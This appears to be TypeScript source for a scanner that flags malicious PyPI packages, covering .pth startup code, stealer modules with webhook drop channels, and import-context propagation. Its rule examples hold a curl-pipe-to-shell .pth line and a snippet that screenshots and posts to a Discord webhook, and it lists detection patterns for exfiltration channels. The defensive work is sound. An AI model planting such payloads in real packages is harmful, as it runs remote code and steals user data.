import { propagateContexts } from '../../core/contexts.js';
import type {
  Analyzer,
  ArtifactFile,
  ExecutionContext,
  Finding,
  PackageContext,
  RuleMeta,
} from '../../core/types.js';
import { ENCRYPTED_ENTRY } from '../../ecosystems/pypi/archive.js';
import { importRoots, resolveModule } from '../../ecosystems/pypi/contexts.js';
import { makeFinding } from '../../rules/finding.js';
import { scanTextForIocs } from '../text/iocs.js';
import { PyContext, type PyFinding, type PyRule, runPyRules } from './engine.js';
import { fallbackCommands } from './fallback.js';
import { METADATA_RULES, metadataFindings } from './metadata.js';
import { type Node, parsePython } from './parser.js';
import { py } from './rules/helpers.js';
import { PY_RULES } from './rules/index.js';

const MAX_DECODE_DEPTH = 4;
const TEST_PATH = /(^|\/)(tests?|testing)\/|(^|\/)(test_[^/]*|[^/]*_test|conftest)\.py$/;

export const UNPARSEABLE_PYTHON: RuleMeta = {
  ...py,
  id: 'PY-000',
  name: 'unparseable-python',
  category: 'obfuscation',
  severity: 'low',
  confidence: 'low',
  description: 'A Python file could not be parsed (or only partly); text-level checks ran on it instead.',
  rationale:
    'Deliberately malformed files can break scanners while the interpreter (or a lenient older one) still runs them; at minimum the file was not fully analysed.',
  falsePositives:
    'Python 2-only files with syntax the grammar rejects, templates with placeholders, test fixtures of broken code.',
  example: 'def f(:\n    exec(x)',
  references: ['https://tree-sitter.github.io/tree-sitter/'],
};

export const PTH_EXEC: RuleMeta = {
  ...py,
  id: 'PY-016',
  name: 'pth-executes-code',
  category: 'persistence',
  severity: 'medium',
  confidence: 'medium',
  description:
    'A .pth file has lines starting with `import`: Python executes them at every interpreter start.',
  rationale:
    'site.py runs `import` lines of every .pth in site-packages on each start of Python, before any user code: a payload there runs forever, in every program, without being imported. The code on those lines is analysed as startup code.',
  falsePositives:
    'setuptools (distutils-precedence.pth), coverage, editable installs and virtualenv helpers use short import lines.',
  example: 'evil.pth: import os; os.system("curl -s https://x.invalid | sh")',
  references: ['https://docs.python.org/3/library/site.html'],
};

export const COLLECT_AND_SEND: RuleMeta = {
  ...py,
  id: 'PY-024',
  name: 'collect-and-send-module',
  category: 'exfiltration',
  severity: 'critical',
  confidence: 'high',
  description:
    'One module both collects what stealers collect (credential stores, screenshots, keystrokes, webcam, clipboard) and holds a drop channel (chat webhook, Telegram bot API, request-capture/OAST/paste service) — or calls the network with a request-capture/OAST address — even when that code only runs when a function is called.',
  rationale:
    'Stealers and RATs published as "tools" keep their code in functions the victim calls (or a console script runs), so the load-time view misses them; a module whose own functions grab secrets or the screen and hold a webhook to send them to is a stealer whenever it runs. Interaction-capture (OAST) and request-capture hosts have no use in shipped code other than receiving callbacks.',
  falsePositives:
    "Security training material and red-team tooling published on purpose; a screenshot tool that reports to its author's chat webhook.",
  example:
    "def loop():\n    pyautogui.screenshot().save('s.png')\n    requests.post('https://discord.com/api/webhooks/1/x', files={'f': open('s.png', 'rb')})",
  references: ['https://attack.mitre.org/techniques/T1041/', 'https://attack.mitre.org/techniques/T1113/'],
};

/** Whether a file is Python source to parse. */
export function isPythonFile(file: ArtifactFile): boolean {
  if (file.kind !== 'text') return false;
  if (/\.(py|pyw|pyi)$/i.test(file.path)) return !file.path.endsWith('.pyi');
  const head = file.data.subarray(0, 80).toString('latin1');
  return head.startsWith('#!') && /python/.test(head);
}

export interface PyFileAnalysis {
  path: string;
  findings: PyFinding[];
  imports: Array<{ module: string; level: number }>;
  parsed: boolean;
  loadCalled: Set<string>;
  callsIn: Map<string, Set<string>>;
  externalCalls: string[];
}

function decodeSource(data: Buffer): string {
  const text = data.toString('utf8');
  return text.replace(/^\uFEFF/, '');
}

/** Parses one Python source and runs every rule over it in a single walk. */
export async function analyzePythonSource(
  file: ArtifactFile,
  source: string,
  pkg: PackageContext,
  context: ExecutionContext,
  rules: PyRule[] = PY_RULES,
): Promise<PyFileAnalysis> {
  const parsed = await parsePython(source);
  const out: PyFileAnalysis = {
    path: file.path,
    findings: [],
    imports: [],
    parsed: !!parsed.root,
    loadCalled: new Set(),
    callsIn: new Map(),
    externalCalls: [],
  };
  if (!parsed.root || parsed.errorRatio > 0.02) {
    const partial = !!parsed.root && parsed.errorRatio < 0.5;
    const f = makeFinding(UNPARSEABLE_PYTHON, {
      file: file.path,
      line: parsed.errorLine ?? 1,
      context,
      message: partial
        ? `${file.path} has syntax errors (${Math.round(parsed.errorRatio * 100)}% of the file, first at line ${parsed.errorLine}); the rest was analysed and text-level checks also ran.`
        : `${file.path} could not be parsed as Python; only text-level checks ran.`,
      evidence: { errorRatio: parsed.errorRatio },
    });
    out.findings.push({ finding: f, loadTime: true, weak: true });
    for (const t of scanTextForIocs(file.path, source, context))
      out.findings.push({ finding: t, loadTime: true, weak: false });
    for (const t of fallbackCommands(file.path, source, context, partial ? parsed.errorLine : 1))
      out.findings.push({ finding: t, loadTime: true, weak: false });
  }
  if (!parsed.root) return out;
  const ctx = new PyContext(file, source, pkg, context);
  attachReanalysis(ctx, rules, pkg, 1);
  runPyRules(parsed.root, rules, ctx);
  await Promise.all(ctx.pending);
  out.findings.push(...ctx.findings);
  out.imports = ctx.facts.imports;
  out.loadCalled = ctx.loadCalled;
  out.callsIn = ctx.callsIn;
  out.externalCalls = ctx.externalLoadCalls();
  return out;
}

/** Lets rules hand decoded code back for analysis as code, up to a depth limit. */
function attachReanalysis(ctx: PyContext, rules: PyRule[], pkg: PackageContext, depth: number): void {
  if (depth > MAX_DECODE_DEPTH) return;
  ctx.reanalyze = async (code: string, node: Node) => {
    const parsed = await parsePython(code);
    if (!parsed.root || parsed.errorRatio > 0.05) return;
    {
      const origin = {
        line: ctx.origin?.line ?? node.startPosition.row + 1,
        column: ctx.origin?.column ?? node.startPosition.column + 1,
        snippet: ctx.origin?.snippet ?? ctx.snippetOf(node),
        loadTime: ctx.loadTime(),
      };
      const inner = new PyContext(ctx.file, code, pkg, ctx.fileContext, depth, origin);
      attachReanalysis(inner, rules, pkg, depth + 1);
      runPyRules(parsed.root, rules, inner);
      await Promise.all(inner.pending);
      ctx.findings.push(...inner.findings);
    }
  };
}

/** Code lines of a .pth file: those site.py executes (starting with `import`). */
export function pthCode(text: string): Array<{ line: number; code: string }> {
  const out: Array<{ line: number; code: string }> = [];
  text.split(/\r?\n/).forEach((l, i) => {
    if (/^import[ \t]/.test(l)) out.push({ line: i + 1, code: l });
  });
  return out;
}

/**
 * Propagates execution contexts from entry points along the package's own imports, so a module
 * imported by setup.py is install-time code and one imported by __init__.py is import-time code.
 */
export function propagatePythonContexts(
  analyses: Map<string, PyFileAnalysis>,
  entryPoints: Map<string, ExecutionContext>,
): Map<string, ExecutionContext> {
  const files = new Set(analyses.keys());
  const roots = importRoots(files);
  return propagateContexts(entryPoints, function* (file) {
    for (const imp of analyses.get(file)?.imports ?? []) {
      const target = resolveModule(imp.module, files, roots, file, imp.level);
      if (target) yield target;
    }
  });
}

function closeCalls(analysis: PyFileAnalysis, external: Set<string>): Set<string> {
  const closure = new Set(analysis.loadCalled);
  for (const n of external)
    if (analysis.callsIn.has(n) || analysis.findings.some((f) => f.stack?.includes(n))) closure.add(n);
  const queue = [...closure];
  while (queue.length > 0) {
    const f = queue.pop()!;
    for (const g of analysis.callsIn.get(f) ?? []) {
      if (!closure.has(g)) {
        closure.add(g);
        queue.push(g);
      }
    }
  }
  return closure;
}

/** Endpoint kinds that are drop channels for stolen data (NET-001 evidence.endpointKind). */
const DROP_CHANNELS = new Set([
  'discord-webhook',
  'messaging-bot',
  'slack-webhook',
  'request-capture',
  'ip-logger',
  'oast',
  'paste',
  'file-drop',
]);
/** Capture services: contacting one is itself the beacon. */
const CAPTURE_ONLY = new Set(['request-capture', 'ip-logger', 'oast']);

/**
 * PY-024: a module whose functions collect stealer data and hold a drop channel, judged over the
 * whole file (also code that only runs on request, whose capability findings are otherwise dropped).
 */
function collectAndSend(path: string, findings: PyFinding[], context: ExecutionContext): Finding | undefined {
  if (TEST_PATH.test(path)) return undefined;
  const channel = findings.find(
    (f) => f.finding.ruleId === 'NET-001' && DROP_CHANNELS.has(String(f.finding.evidence?.endpointKind)),
  );
  if (!channel) return undefined;
  const collect = findings.find(
    (f) => f.finding.ruleId === 'PY-009' || f.finding.ruleId === 'PY-012' || f.finding.ruleId === 'PY-008',
  );
  const kind = String(channel.finding.evidence?.endpointKind);
  const network = findings.find(
    (f) =>
      f.finding.ruleId === 'PY-006' || (f.finding.ruleId === 'PY-004' && f.finding.category === 'network'),
  );
  if (!collect && !(CAPTURE_ONLY.has(kind) && network)) return undefined;
  const at = collect ?? network!;
  return makeFinding(COLLECT_AND_SEND, {
    file: path,
    line: at.finding.line,
    snippet: at.finding.snippet,
    context,
    severity: collect ? 'critical' : 'high',
    message: collect
      ? `${path} collects data a stealer takes (${at.finding.message.slice(0, 100)}) and holds a drop channel (${String(channel.finding.iocs?.[0] ?? kind).slice(0, 80)}).`
      : `${path} contacts a ${kind} service (${String(channel.finding.iocs?.[0] ?? '').slice(0, 80)}): a callback beacon.`,
    evidence: { channel: kind, collect: collect?.finding.ruleId, network: network?.finding.ruleId },
  });
}

/**
 * Re-weighs a finding once its final context is known: a hidden or detached process (PY-020) that
 * starts while the package is installed or imported is a payload launched behind the user's back;
 * the same flags in a function a GUI or daemon calls on request stay medium.
 */
function weighByContext(f: Finding, context: ExecutionContext): void {
  if (f.ruleId === 'PY-020' && context !== 'runtime' && f.severity === 'medium') {
    f.severity = 'high';
    f.message = `${f.message.replace(/\.$/, '')}, when the package is ${context === 'install' ? 'installed' : context === 'startup' ? 'loaded by Python' : 'imported'}.`;
  }
}

function finalContext(path: string, fileCtx: ExecutionContext, f: PyFinding): ExecutionContext {
  if (path === 'setup.py') return 'install';
  if (fileCtx === 'runtime' || fileCtx === 'unknown') return 'runtime';
  return f.loadTime ? fileCtx : 'runtime';
}

export const pythonAnalyzer: Analyzer = {
  id: 'python',
  // PyPI distributions only: Python helper scripts inside npm/Maven packages are left to those
  // ecosystems' calibration (gyp files, build helpers).
  appliesTo: (artifact) => artifact.ecosystem === 'pypi',
  async analyze(pkg) {
    const analyses = new Map<string, PyFileAnalysis>();
    const findings: Finding[] = [];
    for (const file of pkg.artifact.files) {
      if (!isPythonFile(file)) continue;
      const ctx = pkg.contextOf(file.path);
      analyses.set(file.path, await analyzePythonSource(file, decodeSource(file.data), pkg, ctx));
    }
    const contexts = propagatePythonContexts(analyses, pkg.entryPoints);
    // Functions other load-time files call (`from .telemetry import register; @register`) run at load too.
    const external = new Set<string>();
    for (const [path, analysis] of analyses) {
      const c = contexts.get(path) ?? pkg.contextOf(path);
      if (c !== 'runtime' && c !== 'unknown') for (const n of analysis.externalCalls) external.add(n);
    }
    for (const [path, analysis] of analyses) {
      const fileCtx = contexts.get(path) ?? pkg.contextOf(path);
      const closure = closeCalls(analysis, external);
      let runtimeOnly = true;
      for (const f of analysis.findings) {
        if (!f.loadTime && f.stack && f.stack.length > 0 && f.stack.every((n) => closure.has(n)))
          f.loadTime = true;
        const context = finalContext(path, fileCtx, f);
        if (f.weak && context === 'runtime') continue;
        // Test suites run only under a test runner: evidence there is weak unless it runs at load.
        if (context === 'runtime' && TEST_PATH.test(path) && f.finding.severity !== 'info')
          f.finding.severity = 'low';
        f.finding.context = context;
        weighByContext(f.finding, context);
        if (context !== 'runtime') runtimeOnly = false;
        findings.push(f.finding);
      }
      // Runtime-only stealers/beacons: judged over the whole module (load-time code has its chains).
      if (runtimeOnly) {
        const f = collectAndSend(path, analysis.findings, 'runtime');
        if (f) findings.push(f);
      }
    }
    // .pth files: their import lines run at every interpreter start.
    for (const file of pkg.artifact.files) {
      if (!file.path.endsWith('.pth') || file.kind !== 'text') continue;
      const lines = pthCode(file.data.toString('utf8'));
      if (lines.length === 0) continue;
      const code = lines.map((l) => l.code).join('\n');
      findings.push(
        makeFinding(PTH_EXEC, {
          file: file.path,
          line: lines[0]!.line,
          snippet: lines[0]!.code,
          context: 'startup',
          severity:
            code.length > 200 || /exec|eval|b64decode|system|urlopen|subprocess|socket/.test(code)
              ? 'high'
              : 'low',
          message: `${file.path} runs code at every Python start: ${lines[0]!.code.slice(0, 120)}`,
          evidence: { lines: lines.length },
        }),
      );
      const analysis = await analyzePythonSource(file, code, pkg, 'startup');
      for (const f of analysis.findings) {
        if (f.finding.ruleId === 'PY-000') continue;
        f.finding.context = 'startup';
        if (f.finding.line !== undefined) f.finding.line = lines[f.finding.line - 1]?.line ?? f.finding.line;
        findings.push(f.finding);
      }
    }
    findings.push(...metadataFindings(pkg));
    return findings;
  },
};

export const PYTHON_RULE_METAS: RuleMeta[] = [
  UNPARSEABLE_PYTHON,
  PTH_EXEC,
  COLLECT_AND_SEND,
  ...PY_RULES.map((r) => r.meta).filter((m) => m.id.startsWith('PY-')),
  ...METADATA_RULES,
  ENCRYPTED_ENTRY,
];
